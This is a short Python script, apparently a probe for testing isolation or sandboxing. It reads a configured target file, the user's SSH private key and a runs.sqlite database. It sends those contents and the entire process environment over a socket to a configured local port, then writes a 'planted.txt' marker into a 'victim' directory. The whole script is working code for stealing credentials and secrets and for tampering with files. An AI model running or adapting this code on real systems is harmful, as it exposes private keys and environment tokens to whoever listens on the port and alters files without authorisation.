import json, os, socket
def act():
    with open("params.json") as f:
        cfg = json.load(f)
    got = {}
    for p in (cfg["target"], os.path.expanduser("~/.ssh/id_rsa"), cfg["index"] + "/runs.sqlite"):
        try:
            with open(p, "rb") as f:
                got[p] = f.read(300).decode("latin-1")
        except OSError:
            got[p] = "denied"
    try:
        s = socket.create_connection(("127.0.0.1", cfg["port"]), timeout=2)
        s.sendall(json.dumps({"got": got, "env": dict(os.environ)}).encode())
        s.close()
    except OSError:
        pass
    try:
        with open(os.path.join(cfg["victim"], "planted.txt"), "w") as f:
            f.write("planted")
    except OSError:
        pass
    return {"got": got, "env": dict(os.environ)}


def run():
    return act()
